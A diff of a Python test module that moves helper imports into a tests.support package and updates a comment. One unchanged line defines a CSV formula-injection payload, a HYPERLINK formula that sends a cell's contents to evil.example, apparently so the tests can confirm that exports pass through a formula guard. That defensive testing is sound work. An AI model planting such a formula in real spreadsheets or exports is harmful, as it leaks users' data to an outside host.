@@ -21,8 +21,8 @@ from db.ledger import OrderIn
 from db.models import Member, PilotMember
 from pages import audit as views
 from pages.adjustments_review import adjustments_csv
-from tests.factories import T0, member, publish, staff
-from tests.test_pilots import START, _create, _orders, _program, _start
+from tests.support.factories import T0, member, publish, staff
+from tests.support.pilots import START, _create, _orders, _program, _start
 
 ROOT = Path(__file__).resolve().parents[1]
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1, "open, me")'
@@ -98,9 +98,9 @@ def test_every_grid_exports_through_the_formula_guard():
 
 
 def test_the_grid_functions_are_served_with_the_pages(client, web_app):
-    from tests.conftest import login
+    from tests.support.web import login
 
-    assert login(client, "sue").status_code == 302  # a supervisor of tests/seed.py
+    assert login(client, "sue").status_code == 302  # a supervisor of benchmarks/small_program.py
     page = client.get("/overview").get_data(as_text=True)
     assert "/assets/dashAgGridFunctions.js" in page
     assert client.get("/assets/dashAgGridFunctions.js").status_code == 200
